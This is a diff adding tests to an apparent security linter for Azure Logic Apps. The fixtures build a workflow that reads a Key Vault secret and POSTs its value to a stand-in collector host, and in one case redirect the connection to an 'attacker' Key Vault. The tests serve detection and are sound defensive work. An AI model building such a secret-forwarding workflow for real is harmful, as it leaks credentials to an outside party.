@@ -149,6 +149,93 @@ describe('connection references by identity (ARM template, $connections paramete
   });
 });
 
+/** A Logic Apps Standard project: connections.json entry `key` → managed connection `conn`, one workflow. */
+function standardProject(key: string, conn: string, secureOutputs = true, send = true): Json {
+  const action: Json = getSecret('ApiConnection', 'api-key', { secureOutputs });
+  action.inputs.host.connection = { referenceName: key };
+  return {
+    connections: {
+      managedApiConnections: {
+        [key]: {
+          api: { id: '/subscriptions/s/providers/Microsoft.Web/locations/westeurope/managedApis/keyvault' },
+          connection: {
+            id: `/subscriptions/s/resourceGroups/rg/providers/Microsoft.Web/connections/${conn}`,
+          },
+          authentication: { type: 'ManagedServiceIdentity' },
+        },
+      },
+    },
+    workflow: {
+      definition: {
+        $schema:
+          'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#',
+        contentVersion: '1.0.0.0',
+        triggers: { manual: { type: 'Request', kind: 'Http', inputs: {} } },
+        actions: {
+          Get_secret: action,
+          ...(send
+            ? {
+                Send: {
+                  type: 'Http',
+                  runAfter: { Get_secret: ['Succeeded'] },
+                  inputs: {
+                    method: 'POST',
+                    uri: 'https://collector.example/in',
+                    body: "@body('Get_secret')?['value']",
+                  },
+                },
+              }
+            : {}),
+        },
+      },
+      kind: 'Stateful',
+    },
+  };
+}
+const standard: Layout = async (dir, side, project) => {
+  mkdirSync(path.join(dir, side, 'rotate'), { recursive: true });
+  writeFileSync(path.join(dir, side, 'host.json'), text({ version: '2.0' }));
+  writeFileSync(path.join(dir, side, 'connections.json'), text(project.connections));
+  writeFileSync(path.join(dir, side, 'rotate', 'workflow.json'), text(project.workflow));
+};
+
+describe('connection references by identity (Logic Apps Standard, connections.json)', () => {
+  it('a managed connection named by host.connection.referenceName is the connector it declares', async () => {
+    const r = await diff(
+      standard,
+      standardProject('keyvault', 'kv-prod', true, false),
+      standardProject('keyvault', 'kv-prod', false),
+    );
+    const fresh = r.findings.filter((f) => f.status === 'new').map((f) => [f.ruleId, f.action]);
+    expect(fresh).toEqual(expect.arrayContaining([['FG101', 'Get_secret']]));
+    // The secret now leaves through the HTTP action: found because the Key Vault action is known as one.
+    expect(r.findings.filter((f) => f.ruleId === 'FG121').map((f) => [f.action, f.status])).toEqual([
+      ['Send', 'new'],
+    ]);
+  });
+
+  it("renaming the connections.json key (and the workflow's referenceName) of the same connection is no change", async () => {
+    const r = await diff(
+      standard,
+      standardProject('keyvault', 'kv-prod'),
+      standardProject('keyvault_2', 'kv-prod'),
+    );
+    expect(fg140(r)).toEqual([]);
+    expect(r.summary.changedFlows).toBe(0);
+  });
+
+  it('the same key pointed at another connection moves the secret source: FG140 high', async () => {
+    const r = await diff(
+      standard,
+      standardProject('keyvault', 'kv-prod'),
+      standardProject('keyvault', 'kv-attacker'),
+    );
+    expect(fg140(r).map((f) => [f.action, f.severity])).toEqual([['Get_secret', 'high']]);
+    expect(fg140(r)[0].message).toContain('kv-attacker');
+    expect(r.summary.changedFlows).toBe(1);
+  });
+});
+
 describe('changedFlows counts changed definitions, not re-serialisation', () => {
   const flow = solutionFlow('shared_keyvault', 'fg_kv_a');
   /** The same object with every object's keys in reverse order. */
